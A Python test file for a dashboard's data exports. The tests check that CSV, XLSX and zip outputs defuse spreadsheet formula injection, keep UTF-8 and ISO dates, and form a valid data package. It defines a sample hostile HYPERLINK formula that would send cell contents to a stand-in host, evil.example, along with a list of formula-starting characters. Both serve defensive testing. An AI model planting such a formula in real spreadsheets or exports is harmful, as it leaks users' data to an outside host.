"""What a visitor takes away opens safely in a spreadsheet, and holds exactly what is shown."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from frictionless import Package, validate
from hypothesis import given
from hypothesis import strategies as st

from dashboard.exports import Bundle, as_csv, as_zip, datapackage, defused

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Talks")'


@pytest.mark.parametrize("start", STARTS)
def test_a_cell_that_a_spreadsheet_would_run_is_prefixed(start: str) -> None:
    assert defused(f"{start}HYPERLINK(1)") == f"'{start}HYPERLINK(1)"


@pytest.mark.parametrize("value", ["a=b", " plain", "", "1-2", None, 3, -3, -0.5, True])
def test_anything_else_stays_as_it_is(value: object) -> None:
    assert defused(value) == value


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("Talks;=1+1", "Talks;'=1+1"),
        ("Talks; @SUM(A1)", "Talks; '@SUM(A1)"),
        ('Talks;"=1+1"', 'Talks;"\'=1+1"'),
        ("Talks\n-1+1", "Talks\n'-1+1"),
        ("Talks\t=1", "Talks\t'=1"),
        ("Space; the – final – frontier", "Space; the – final – frontier"),
        ("two-fold; self-defence", "two-fold; self-defence"),
    ],
)
def test_a_cell_that_only_another_separator_would_start_is_defused_too(
    value: str, safe: str
) -> None:
    assert defused(value) == safe


def test_a_hostile_title_runs_in_no_file_of_the_zip() -> None:
    frame = pd.DataFrame({"title": [HOSTILE], "nations": [("=1+1", "USA")]})
    files = zipped(frame)
    assert b"'=HYPERLINK" in files["events.csv"]
    assert b"'=1+1; USA" in files["events.csv"]
    assert json.loads(files["events.json"]) == [{"title": HOSTILE, "nations": ["=1+1", "USA"]}]
    with zipfile.ZipFile(io.BytesIO(files["events.xlsx"])) as book:
        sheet = book.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet
        assert b"hyperlink" not in sheet
        assert b"HYPERLINK" in book.read("xl/sharedStrings.xml")


def test_the_zip_is_a_valid_data_package_whose_lists_are_lists(tmp_path: Path) -> None:
    frame = pd.DataFrame({
        "title": ["Talks", HOSTILE], "nations": [("FRA", "USA"), ()], "sources": [2, 1],
        "day": pd.to_datetime(pd.Series(["2025-12-05", None])), "counts": [True, False],
        "state": pd.Categorical(["member", None]), "first": pd.array([1, None], dtype="Int64"),
    })  # fmt: skip
    for name, content in zipped(frame).items():
        (tmp_path / name).write_bytes(content)
    described = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))
    (resource,) = described["resources"]
    assert {field["name"]: field["type"] for field in resource["schema"]["fields"]} == {
        "title": "string", "nations": "list", "sources": "integer", "day": "date",
        "counts": "boolean", "state": "string", "first": "integer",
    }  # fmt: skip
    report = validate(tmp_path / "datapackage.json")
    assert report.valid, report.flatten(["message"])
    rows = Package(tmp_path / "datapackage.json").resources[0].read_rows()
    assert rows[0]["nations"] == ["FRA", "USA"]


def test_columns_of_a_table_say_what_they_mean() -> None:
    bundle = Bundle("memberships", "Members", "x", "v", [], pd.DataFrame({"nation": ["FRA"]}))
    (field,) = datapackage(bundle)["resources"][0]["schema"]["fields"]
    assert field == {"name": "nation", "type": "string", "description": "ISO 3166-1 alpha-3"}


def zipped(frame: pd.DataFrame) -> dict[str, bytes]:
    """The files of the zip of a frame called `events`."""
    bundle = Bundle("events", "Events", "http://x/?a=b", "v1", ["Ministry, “Talks”"], frame)
    with zipfile.ZipFile(io.BytesIO(as_zip(bundle))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_lists_are_joined_and_defused_as_one_cell() -> None:
    assert defused(("FRA", "USA")) == "FRA; USA"
    assert defused(["=1+1", "USA"]) == "'=1+1; USA"
    assert defused(["USA", "=1+1"]) == "USA; '=1+1"
    assert defused(()) == ""


def test_the_file_begins_with_a_byte_order_mark_and_is_utf_8() -> None:
    content = as_csv(pd.DataFrame({"Nation": ["Türkiye", "Côte d'Ivoire"]}))
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig") == "Nation\r\nTürkiye\r\nCôte d'Ivoire\r\n"


def test_days_are_iso_and_what_is_missing_is_empty() -> None:
    frame = pd.DataFrame({
        "day": pd.to_datetime(pd.Series(["2025-12-05", None])),
        "nations": [("FRA", "USA"), ()],
        "title": ["Talks", None],
        "sources": [2, 1],
        "state": pd.Categorical(["member", None]),
    })  # fmt: skip
    assert as_csv(frame).decode("utf-8-sig") == (
        "day,nations,title,sources,state\r\n2025-12-05,FRA; USA,Talks,2,member\r\n,,,1,\r\n"
    )


def test_headings_are_defused_too() -> None:
    assert as_csv(pd.DataFrame({"=cmd": [1]})).decode("utf-8-sig") == "'=cmd\r\n1\r\n"


def test_an_empty_frame_still_has_its_heading() -> None:
    assert as_csv(pd.DataFrame({"a": [], "b": []})).decode("utf-8-sig") == "a,b\r\n"


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0")), min_size=1))
def test_no_cell_of_any_text_begins_a_formula(texts: list[str]) -> None:
    frame = pd.DataFrame({"text": texts, "list": [(text, "x") for text in texts], "n": 1})
    lines = io.StringIO(as_csv(frame).decode("utf-8-sig"), newline="")
    heading, *rows = csv.reader(lines)
    assert heading == ["text", "list", "n"]
    assert len(rows) == len(texts)
    assert not any(cell.startswith(STARTS) for row in rows for cell in row)
    assert [row[0].replace("'", "") for row in rows] == [text.replace("'", "") for text in texts]
